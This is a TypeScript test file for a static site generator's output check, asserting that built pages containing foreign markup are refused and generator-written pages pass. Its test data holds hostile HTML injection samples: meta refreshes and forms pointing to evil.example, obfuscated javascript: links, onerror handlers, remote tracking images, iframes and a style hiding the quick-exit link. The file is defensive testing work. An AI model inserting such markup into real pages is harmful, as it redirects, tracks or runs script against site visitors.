/**
 * The output check (src/build/check-output.ts) on small pages: each foreign thing a built page could
 * hold is refused with its line, each thing the generator writes is accepted; and real pages of the
 * built site, of an offline bundle and a single-file guide pass it.
 */
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { unzipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import { addressKind, checkPage, contentPageOf, cssAddresses, findSource, outputProblemsError, startTags, type OutputRules } from '../../src/build/check-output';
import { inlineScriptHashes, policy, scriptHash, withPolicy } from '../../src/build/csp';
import { generatorInlineScripts, generatorInlineStyles, inlineStylesOf } from '../../src/build/inline-scripts';
import { DIST, requireDist, ROOT } from '../helpers/project';
import { htmlFiles } from '../helpers/site';

const THEME = 'document.documentElement.dataset.theme = "light";';
const OWN_STYLE = 'body{margin:0}';
const rules = (over: Partial<OutputRules> = {}): OutputRules => ({
	path: 'fr/tools/signal/index.html',
	page: 'dist/fr/tools/signal/index.html',
	isScript: (p) => p === '_astro/page.abc.js',
	isAsset: (p) => p === '_astro/style.css' || p === 'favicon.svg' || p === 'img/diagram.png',
	scripts: new Set([scriptHash(THEME)]),
	styles: new Set([scriptHash(OWN_STYLE)]),
	hash: scriptHash,
	...over,
});
/** A page as the generator writes it, sealed with its policy, then `body` put in its main part (as content would reach it). */
const page = (body: string) =>
	withPolicy(
		`<!doctype html><html lang="fr"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"><title>Signal</title>` +
			`<meta name="description" content="x"><meta property="og:title" content="Signal"><link rel="stylesheet" href="/_astro/style.css"><link rel="shortcut icon" href="/favicon.svg" type="image/svg+xml">` +
			`<script>${THEME}</script><script type="module" src="/_astro/page.abc.js"></script></head>` +
			`<body><quick-exit><a href="https://en.wikipedia.org/" data-quick-exit rel="noreferrer">Exit</a></quick-exit><main>\n<h1>Signal</h1>\nBODY\n</main></body></html>`,
		new Set([scriptHash(THEME)]),
	).replace('BODY', () => body);
const check = (html: string, over: Partial<OutputRules> = {}) => checkPage(html, rules({ policy: (h) => policy(inlineScriptHashes(h)), ...over }));

describe('what a page may hold', () => {
	test.each([
		['a link to another site', '<p><a href="https://signal.org/download/">Signal</a></p>'],
		['an image of the site', '<img src="/img/diagram.png" alt="" srcset="/img/diagram.png 2x">'],
		['a data: image', '<img src="data:image/png;base64,iVBORw0KGgo=" alt="">'],
		['a mailto: link', '<a href="mailto:help@example.org">help</a>'],
		['the generator’s own style', `<style>${OWN_STYLE}</style>`],
		['the risk check’s form', '<risk-selector><form class="form" aria-label="Questions"><input type="radio" name="q1"></form></risk-selector>'],
		['style attributes without addresses', '<div style="--sl-sidebar-width: 18rem; color: red">x</div>'],
		['text that looks like markup, escaped', '<p>&lt;meta http-equiv="refresh"&gt; &lt;script src="https://x.example/"&gt;</p>'],
		['a noscript link', '<noscript><a href="/fr/all-pages/">All pages</a></noscript>'],
	])('accepts %s', (_, body) => {
		expect(check(page(body))).toEqual([]);
	});

	test('accepts the one print style of a handout or card page, which the generator computes, and no second one', () => {
		const print = '<style>@font-face{font-family:\'Playbook Print\';src:url(/_astro/noto.woff2) format(\'woff2\')}@media print{quick-exit{display:none!important}}</style>';
		expect(check(page(print), { printStyle: true })).toEqual([]);
		expect(check(page(`${print}<style>quick-exit{display:none}</style>`), { printStyle: true }).map((p) => p.what)).toEqual([expect.stringContaining('a <style> element the generator does not write')]);
		expect(check(page(print)).map((p) => p.what)).toEqual([expect.stringContaining('a <style> element the generator does not write')]);
	});
});

describe('what a page may not hold', () => {
	test.each([
		['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">', 'a <meta http-equiv="refresh">'],
		['a meta refresh written in capitals and with references', '<META HTTP-EQUIV="&#114;efresh" CONTENT="0;url=https://evil.example/">', 'a <meta http-equiv="refresh">'],
		['a meta refresh inside noscript (Tor Browser’s Safest level)', '<noscript><meta http-equiv="refresh" content="0;url=https://evil.example/"></noscript>', 'a <meta http-equiv="refresh">'],
		['a meta refresh after a title that ended early', '<title>x</title><meta http-equiv="refresh" content="0;url=https://evil.example/"></title>', 'a <meta http-equiv="refresh">'],
		['a meta set-cookie', '<meta http-equiv="set-cookie" content="a=b">', 'a <meta http-equiv="set-cookie">'],
		['a meta with attributes the generator never writes', '<meta itemprop="image" content="https://x.example/a.png">', 'a <meta> the generator does not write'],
		['a referrer meta that sends the referrer', '<meta name="referrer" content="unsafe-url">', 'a <meta> the generator does not write'],
		['a second policy', `<meta http-equiv="Content-Security-Policy" content="script-src *">`, 'a second Content-Security-Policy'],
		['a base', '<base href="https://evil.example/">', 'a <base> element'],
		['a style element', '<style>quick-exit{display:none!important}</style>', 'a <style> element the generator does not write'],
		['a style element inside SVG', '<svg><style>quick-exit{display:none}</style></svg>', 'a <style> element the generator does not write'],
		['a script file the build did not emit', '<script src="/x.js"></script>', 'a script whose file the build did not emit'],
		['a script from another host', '<script src="https://evil.example/x.js"></script>', 'a script whose file the build did not emit'],
		['a data: script', '<script src="data:text/javascript,alert(1)"></script>', 'a script whose file the build did not emit'],
		['an inline script', '<script>alert(1)</script>', 'an inline script the generator does not write'],
		['an event attribute', '<img src="/img/diagram.png" onerror="alert(1)">', 'an event attribute onerror'],
		['a javascript: link', '<a href="java&#9;script:alert(1)">x</a>', 'a script address href='],
		['a remote image', '<img src="https://tracker.example/p.png">', 'src="https://tracker.example/p.png" in <img>'],
		['a remote image by a scheme-relative address', '<img src="//tracker.example/p.png">', 'src="//tracker.example/p.png"'],
		['a remote image by backslashes', '<img src="\\\\tracker.example/p.png">', 'in <img>'],
		['a remote srcset', '<img src="/img/diagram.png" srcset="/img/diagram.png 1x, https://tracker.example/p.png 2x">', 'srcset="https://tracker.example/p.png"'],
		['a remote poster', '<video poster="https://tracker.example/p.png"></video>', 'poster='],
		['a remote audio', '<audio src="https://tracker.example/a.mp3"></audio>', 'in <audio>'],
		['a remote source', '<video><source src="https://tracker.example/v.mp4"></video>', 'in <source>'],
		['a remote track', '<video><track src="https://tracker.example/t.vtt"></video>', 'in <track>'],
		['a remote table background', '<table background="https://tracker.example/b.png"></table>', 'background='],
		['a ping', '<a href="/fr/" ping="https://tracker.example/p">x</a>', 'ping='],
		['a button formaction', '<risk-selector><form class="form"><button formaction="https://evil.example/">x</button></form></risk-selector>', 'formaction='],
		['an SVG image', '<svg><image href="https://tracker.example/i.png"/></svg>', 'href="https://tracker.example/i.png" in <image>'],
		['an SVG xlink:href', '<svg><use xlink:href="https://tracker.example/s.svg#a"/></svg>', 'xlink:href='],
		['url() in a style attribute', '<p style="background:url(https://tracker.example/b.png)">x</p>', 'a style attribute that loads from another host'],
		['url() written with CSS escapes', '<p style="background:u\\72l(//tracker.example/b.png)">x</p>', 'a style attribute that loads from another host'],
		['an iframe', '<iframe src="https://evil.example/"></iframe>', 'an <iframe> element'],
		['an object', '<object data="https://evil.example/x.swf"></object>', 'an <object> element'],
		['an embed', '<embed src="https://evil.example/x.swf">', 'an <embed> element'],
		['a frame', '<frameset><frame src="https://evil.example/"></frameset>', 'an <frameset> element'],
		['a portal', '<portal src="https://evil.example/"></portal>', 'an <portal> element'],
		['a form', '<form action="https://evil.example/"><input name="q"></form>', 'a <form> the generator does not write'],
		['a preconnect', '<link rel="preconnect" href="https://tracker.example">', 'a <link rel="preconnect"> the generator does not write, to another host'],
		['a dns-prefetch', '<link rel="dns-prefetch" href="//tracker.example">', 'a <link rel="dns-prefetch">'],
		['a prefetch', '<link rel="prefetch" href="/fr/">', 'a <link rel="prefetch">'],
		['a preload', '<link rel="preload" as="image" href="https://tracker.example/p.png">', 'a <link rel="preload">'],
		['a remote stylesheet', '<link rel="stylesheet" href="https://cdn.example/a.css">', 'a <link rel="stylesheet"> to another host'],
		['a stylesheet the build did not write', '<link rel="stylesheet" href="/x.css">', 'a <link rel="stylesheet"> to a file the build did not write'],
	])('refuses %s', (_, body, what) => {
		const html = page(`<p>text</p>\n${body}`);
		const problems = check(html);
		const problem = problems.find((p) => p.what.includes(what));
		expect(problem, JSON.stringify(problems)).toBeDefined();
		expect(problem!.page).toBe('dist/fr/tools/signal/index.html');
		expect(problem!.line).toBe(html.split('\n').findIndex((l) => l.includes(body)) + 1);
		expect(problem!.fix).toMatch(/^(remove|save|write|build)/);
		// The page without it passes.
		expect(check(page('<p>text</p>'))).toEqual([]);
	});

	test('a policy changed after the build', () => {
		const html = page('<p>x</p>').replace("script-src 'self'", "script-src * 'self'");
		expect(check(html).map((p) => p.what)).toEqual([expect.stringContaining("a Content-Security-Policy that is not the generator's")]);
	});

	test('an address on the site’s own host is the site’s, another host’s is not', () => {
		const body = '<img src="https://guide.example.org/img/diagram.png"><link rel="canonical" href="https://guide.example.org/fr/">';
		expect(check(page(body), { site: 'https://guide.example.org' })).toEqual([]);
		expect(check(page(body)).length).toBe(2);
	});
});

describe('reading HTML as a browser does', () => {
	test('attributes separated by "/", the first of two with one name, references decoded', () => {
		const [tag] = startTags('<meta/http-equiv="refresh"/content="0;url=https://x.example" http-equiv="x">');
		expect(tag!.name).toBe('meta');
		expect(Object.fromEntries(tag!.attributes)).toEqual({ 'http-equiv': 'refresh', content: '0;url=https://x.example' });
		expect(startTags('<img src="&#x68;ttps&colon;//x.example/a.png">')[0]!.attributes.get('src')).toBe('https://x.example/a.png');
	});

	test('comments and raw text hide nothing from the check', () => {
		expect(startTags('<!-- <meta http-equiv="refresh"> --><p>').map((t) => t.name)).toEqual(['p']);
		const [script, after] = startTags('<script>var a = "<meta>";</script><meta charset="utf-8">');
		expect(script!.body).toBe('var a = "<meta>";');
		expect(after!.name).toBe('meta');
	});

	test('addresses', () => {
		expect(addressKind(' \thttps://x.example/')).toBe('remote');
		expect(addressKind('/\\x.example/')).toBe('remote');
		expect(addressKind('java\nscript:alert(1)')).toBe('script');
		expect(addressKind('../a.png')).toBe('local');
		expect(addressKind('https://guide.example.org/a', 'https://guide.example.org')).toBe('local');
		expect(addressKind('&unknown;')).toBe('local');
		expect(cssAddresses('@import "https://x.example/a.css"; a{background:image-set("//y.example/b.png" 1x)} b{background:url( \'/c.png\' )}')).toEqual(['/c.png', 'https://x.example/a.css', '//y.example/b.png']);
	});
});

describe('the source of a problem', () => {
	test('is the MDX page the built page was made from, at the line that holds the text', () => {
		const files = [
			{ file: 'content/i18n/fr.json', text: '{\n"a": "b"\n}' },
			{ file: 'content/docs/fr/tools/signal.mdx', text: '---\ntitle: Signal\n---\n\nTexte.\n<meta http-equiv="refresh" content="0;url=https://evil.example/" />\n' },
		];
		const [problem] = check(page('<meta http-equiv="refresh" content="0;url=https://evil.example/">'));
		expect(contentPageOf('fr/tools/signal/index.html')[0]).toBe('content/docs/fr/tools/signal.mdx');
		expect(contentPageOf('fr/index.html')[0]).toBe('content/docs/fr.mdx');
		expect(findSource(files, problem!.needles, 'content/docs/fr/tools/signal.mdx')).toBe('content/docs/fr/tools/signal.mdx, line 6');
		const message = outputProblemsError([{ ...problem!, source: 'content/docs/fr/tools/signal.mdx, line 6' }]).message;
		expect(message).toContain('1. dist/fr/tools/signal/index.html\n');
		expect(message).toContain('from: content/docs/fr/tools/signal.mdx, line 6');
		expect(message).toContain('fix:  remove it');
	});
});

describe('the generator’s own styles', () => {
	test('are its components’ <style is:inline> texts, not those computed with set:html', () => {
		expect(inlineStylesOf('<style is:inline>\n\ta{b:c}\n</style><style set:html={css} is:inline></style><style>scoped{}</style>')).toEqual(['\n\ta{b:c}\n']);
		expect([...generatorInlineStyles(ROOT).values()].map((s) => s.file)).toContain('src/layouts/Plain.astro');
	});
});

describe('real pages of the built site', () => {
	const scripts = new Set(generatorInlineScripts(ROOT).keys());
	const styles = new Set(generatorInlineStyles(ROOT).keys());
	const exists = (p: string) => existsSync(join(DIST, p));

	test('every page of the site passes', () => {
		requireDist();
		const pages = htmlFiles().filter((f) => !f.startsWith('downloads/'));
		expect(pages.length).toBeGreaterThan(10);
		for (const path of pages) {
			const html = readFileSync(join(DIST, path), 'utf8');
			const problems = checkPage(html, { path, page: path, isScript: (p) => /\.js$/.test(p) && exists(p), isAsset: exists, scripts, styles, printStyle: /^[^/]+\/(handout|card)\/index\.html$/.test(path), policy: (h) => policy(inlineScriptHashes(h)), hash: scriptHash });
			expect(problems, path).toEqual([]);
		}
	});

	test('the pages of an offline bundle pass, and one given a meta refresh does not', () => {
		requireDist();
		const zip = readdirZip();
		const names = Object.keys(zip).filter((n) => n.endsWith('.html'));
		const inside = new Set(Object.keys(zip).map((n) => n.replace(/^[^/]+\//, '')));
		const rulesFor = (path: string): OutputRules => ({ path, page: path, isScript: (p) => inside.has(p) && /^(_offline|search)\//.test(p), isAsset: (p) => inside.has(p), scripts, styles, policy: (h) => policy(inlineScriptHashes(h)), hash: scriptHash });
		for (const name of names) expect(checkPage(new TextDecoder().decode(zip[name]), rulesFor(name.replace(/^[^/]+\//, ''))), name).toEqual([]);
		const first = names.find((n) => n.includes('/tools/'))!;
		const broken = new TextDecoder().decode(zip[first]).replace('<h1', '<meta http-equiv="refresh" content="0;url=https://evil.example/"><h1');
		expect(checkPage(broken, rulesFor(first.replace(/^[^/]+\//, ''))).map((p) => p.what)).toEqual([expect.stringContaining('refresh')]);
	});
});

function readdirZip(): Record<string, Uint8Array> {
	const file = join(DIST, 'downloads', 'playbook-all.zip');
	return unzipSync(readFileSync(file));
}
